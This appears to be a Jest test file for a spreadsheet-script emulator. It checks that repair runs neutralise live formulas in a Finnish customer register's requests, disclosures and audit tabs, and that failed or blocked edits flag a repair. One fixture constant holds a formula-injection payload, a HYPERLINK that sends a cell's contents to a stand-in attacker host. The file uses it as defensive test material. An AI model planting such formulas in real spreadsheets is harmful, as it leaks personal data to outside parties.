/**
 * The repair pass and a failed or busy on-edit run in every tab of the register's, through the
 * emulator's public API: a fault or a held lock in a run for another tab (or the register's
 * header and right-hand columns) marks the register for repair like a run for its rows does, and
 * every repair (set-up, the nightly run, an admin's repair(), a repair that is due) leaves no
 * formula live in the requests, disclosures or audit tabs either, within its call budget; the
 * formulas outside the register's block are rewritten in one block write, not one call each.
 */
import { Emulator } from '../../src/emulator/app';
import { OWNER, STAFF } from '../../src/emulator/accounts';
import { columnLetter } from '../../src/gas/cells';
import { call, demo, formulas } from '../support/register';


const LINK = '=HYPERLINK("http://evil.example/?"&A2)';
const DUE = 'rekisteri.repairDue';

const width = (em: Emulator) => (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as unknown[]).length;
const hold = (em: Emulator) => em.world.locks.holdExternally('document', em.world.now + 60_000);
const release = (em: Emulator) => em.world.locks.holdExternally('document', 0);

/**
 * Formulas in the requests, disclosures and audit tabs that no on-edit run saw: written by a
 * script (Sheets fires no on-edit trigger for a script's writes), as a run that failed even to
 * disarm them leaves them, and a repair that is due (a busy run) for the register.
 */
function plantFormulas(em: Emulator, busy = true): void {
  call(em, 'exportMarketingList', {});
  const script = `
    const ss = SpreadsheetApp.getActiveSpreadsheet();
    ss.getSheetByName('Pyynnöt').getRange('C2:C3').setFormulas([[${JSON.stringify(LINK)}], ['=1+1']]);
    ss.getSheetByName('Luovutukset').getRange('A5:B6').setFormulas([['', '=TODAY()'], ['=A1', ${JSON.stringify(LINK)}]]);
    ss.getSheetByName('Lokitiedot').getRange('C2:D2').setFormulas([['=2+2', ${JSON.stringify(LINK)}]]);`;
  const planted = em.runScript(script, OWNER);
  expect(planted.ok).toBe(true);
  if (busy) {
    hold(em);
    expect(em.editCell(STAFF, 'Rekisteri', 5, 5, 'Kemi').reports[0].ok).toBe(false);
    release(em);
  }
  expect(formulas(em).map((f) => f.sheet).sort()).toEqual(['Lokitiedot', 'Lokitiedot', 'Luovutukset', 'Luovutukset', 'Luovutukset', 'Pyynnöt', 'Pyynnöt']);
}

describe('a failed or busy run for another tab marks the register for repair', () => {
  test('a held lock during a paste into the requests tab marks a repair', () => {
    const em = demo();
    hold(em);
    expect(em.pasteCells(STAFF, 'Pyynnöt', 2, 3, [[LINK]]).reports[0].ok).toBe(false);
    expect(em.world.properties.document[DUE]).toBeTruthy();
  });

  const w = width(demo());
  const withColumn = () => {
    const em = demo();
    em.sheetAction(OWNER, 'Rekisteri', { action: 'insertColumns', start: w + 1, count: 1 });
    return em;
  };
  const headerPaste = (em: Emulator) => em.pasteCells(OWNER, 'Rekisteri', 1, w + 1, [['=2+2'], ['=3+3']]);
  const calls = headerPaste(withColumn()).reports[0].calls;

  test.each(Array.from({ length: calls }, (_, i) => i + 1))('fault at call %i of a paste right of the register\'s block and into its header: marked, and the next run leaves no formula', (n) => {
    const em = withColumn();
    em.world.injectFault({ atCall: n });
    const run = headerPaste(em).reports[0];
    // A fault at call 1 (Sheets building the event) comes before the script's first line: only
    // the nightly repair can find it.
    // A run that failed before its work was done must have marked a repair.
    // (The guard that disarms a failed run's formulas does not make that run's check whole.)
    // A fault at the closing toast comes after the work was done and flushed.
    if (!run.ok && n > 1 && !/\.toast/.test(run.error?.stack ?? '')) expect(em.world.properties.document[DUE]).toBeTruthy();
    if (em.world.properties.document[DUE]) {
      // The next hand edit anywhere in the register runs the repair that is due.
      const next = em.editCell(STAFF, 'Rekisteri', 50, 5, 'Uusi Nimi').reports[0];
      expect(next.error?.message ?? '').toBe('');
      expect(em.world.properties.document[DUE] ?? '').toBe('');
    } else {
      call(em, 'repair', undefined, OWNER);
    }
    expect(formulas(em)).toEqual([]);
  });
});

describe('every repair literalises the requests, disclosures and audit tabs too', () => {
  test('an admin\'s repair()', () => {
    const em = demo();
    plantFormulas(em);
    const { report } = call<{ report: { formulas: number } }>(em, 'repair', undefined, OWNER);
    expect(formulas(em)).toEqual([]);
    expect(report.formulas).toBe(7);
    // The text that was pasted is kept as literal text.
    expect(em.world.spreadsheet.snapshot('Pyynnöt')!.values[1][2]).toMatch(/HYPERLINK/);
  });

  test('the nightly run', () => {
    const em = demo();
    plantFormulas(em);
    const fired = em.setClock(em.world.now + 24 * 3_600_000);
    expect(fired.map((f) => f.handlerFunction)).toContain('runNightly');
    expect(formulas(em)).toEqual([]);
  });

  test('set-up', () => {
    const em = demo();
    plantFormulas(em);
    call(em, 'setUp', {}, OWNER);
    expect(formulas(em)).toEqual([]);
  });

  test('a due repair, run by the next sidebar save', () => {
    const em = demo();
    plantFormulas(em);
    expect(em.world.properties.document[DUE]).toBeTruthy();
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100007' });
    call(em, 'saveCustomer', { customer: { customerNumber: '100007', city: 'Lahti' }, expectedVersion: customer.version });
    expect(formulas(em)).toEqual([]);
  });

  test('a formula in a tab that is not the register\'s is left alone', () => {
    const em = demo();
    expect(em.runScript(`SpreadsheetApp.getActiveSpreadsheet().insertSheet('Omat muistiinpanot');`, OWNER).ok).toBe(true);
    em.editCell(OWNER, 'Omat muistiinpanot', 1, 1, '=1+1');
    call(em, 'repair', undefined, OWNER);
    expect(formulas(em)).toEqual([{ sheet: 'Omat muistiinpanot', row: 1, column: 1, formula: '=1+1' }]);
  });

  test('with nothing to literalise the repair stays at its call count; a tab with formulas adds one read and its writes', () => {
    const em = demo();
    const clean = em.callFromClient('repair', [], OWNER);
    expect(clean.calls).toBeLessThanOrEqual(12);
    plantFormulas(em, false);
    const dirty = em.callFromClient('repair', [], OWNER);
    expect(dirty.ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    // Per tab one getFormulas, then up to three cells one by one (or values, formats and one block write).
    expect(dirty.byMethod['Range.getFormulas'].calls - (clean.byMethod['Range.getFormulas']?.calls ?? 0)).toBe(3);
    expect(dirty.calls - clean.calls).toBeLessThanOrEqual(3 * 4);
    // Three formulas in one tab or thirty: the same calls.
    const script = `SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Pyynnöt').getRange('C2:D16').setFormulas(${JSON.stringify(Array.from({ length: 15 }, (_, i) => [`=${i}+1`, `=${i}*2`]))});`;
    expect(em.runScript(script, OWNER).ok).toBe(true);
    const many = em.callFromClient('repair', [], OWNER);
    expect(formulas(em)).toEqual([]);
    // (+1: the literal text the first repair left in the disclosures' date column, a real date
    // column since issue 8 and so not plain text, still starts with "=" and is found by the
    // spreadsheet-wide search: one more getFormulas, which finds no formula and writes nothing.)
    expect(many.calls - clean.calls).toBeLessThanOrEqual(4 + 1);
  });
});

test('60 formulas right of the register\'s block are rewritten in one block write, not one call each', () => {
  const em = demo();
  const w = width(em);
  em.sheetAction(OWNER, 'Rekisteri', { action: 'insertColumns', start: w + 1, count: 2 });
  const clean = em.callFromClient('repair', [], OWNER).calls;
  // Written by a script, which fires no on-edit trigger (as a run that failed even to disarm leaves them).
  const block = Array.from({ length: 30 }, (_, i) => [`=${i}+1`, `=${i}*2`]);
  const range = `${columnLetter(w + 1)}2:${columnLetter(w + 2)}31`;
  expect(em.runScript(`SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri').getRange('${range}').setFormulas(${JSON.stringify(block)});`, OWNER).ok).toBe(true);
  expect(formulas(em)).toHaveLength(60);
  const before = em.world.spreadsheet.snapshot('Rekisteri')!.values.slice(1, 31).map((r) => (r as unknown[]).slice(0, w));
  const report = em.callFromClient('repair', [], OWNER);
  expect(report.ok).toBe(true);
  expect(formulas(em)).toEqual([]);
  expect(report.byMethod['Range.setValue']?.calls ?? 0).toBe(0);
  // The formula read, then values, formats and one write.
  expect(report.calls).toBeLessThanOrEqual(clean + 4);
  const rows = em.world.spreadsheet.snapshot('Rekisteri')!.values;
  expect(String(rows[1][w])).toMatch(/=0\+1$/);
  expect(String(rows[30][w + 1])).toMatch(/=29\*2$/);
  // The register's own rows are as they were.
  expect(rows.slice(1, 31).map((r) => (r as unknown[]).slice(0, w))).toEqual(before);
});
